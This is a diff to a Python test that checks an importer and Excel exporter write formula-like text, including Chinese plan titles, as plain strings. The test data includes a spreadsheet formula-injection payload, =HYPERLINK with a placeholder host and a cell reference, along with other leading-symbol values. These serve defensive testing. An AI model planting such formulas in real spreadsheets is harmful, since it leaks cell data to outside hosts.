@@ -103,6 +103,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(cli, plan2016, db, tm
     text = plan2016.read_text(encoding="utf-8")
     text = text.replace("title: 开展消费品质量提升专项行动", "title: \"=HYPERLINK(\\\"http://x.invalid/?\\\"&A1)\"")
     text = text.replace("lead: [监督司]", "lead: [\"+监督司\"]", 1)
+    text = text.replace("title: 质量品牌提升行动计划(2016)", "title: \"=1+2 行动计划\"", 1)
     plan2016.write_text(text, encoding="utf-8")
     assert cli("import", str(plan2016)).exit_code == 0, cli("import", str(plan2016)).stderr
     for note in ("=1+1", "@SUM(A1)", "-2+3"):
@@ -116,6 +117,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(cli, plan2016, db, tm
     assert (ws["B3"].value, ws["B3"].data_type) == ('=HYPERLINK("http://x.invalid/?"&A1)', "s")
     assert (ws["C3"].value, ws["C3"].data_type) == ("+监督司", "s")
     assert (ws["H4"].value, ws["H4"].data_type) == ("-2+3", "s")
+    assert (ws["A1"].value, ws["A1"].data_type) == ("=1+2 行动计划 督查台帐 (截至 2016-12-15)", "s")
     summary = load_workbook(path)["部门汇总"]
     assert "+监督司" in [c.value for c in summary["A"]]
 
